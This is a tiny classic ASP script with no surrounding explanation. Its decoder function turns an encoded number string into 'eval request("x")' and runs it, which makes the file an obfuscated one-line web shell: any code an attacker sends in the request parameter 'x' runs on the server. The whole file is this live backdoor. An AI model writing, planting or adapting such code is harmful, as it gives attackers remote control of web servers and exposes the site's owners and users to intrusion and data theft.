<%
Function Dc(s)
  Dim a, i
  a = Split(s, ".")
  For i = 0 To UBound(a) - 1
    Dc = Dc & Chr(CInt(a(i)) - 7)
  Next
End Function
Execute Dc("108.125.104.115.39.121.108.120.124.108.122.123.47.41.127.41.48.")
%>
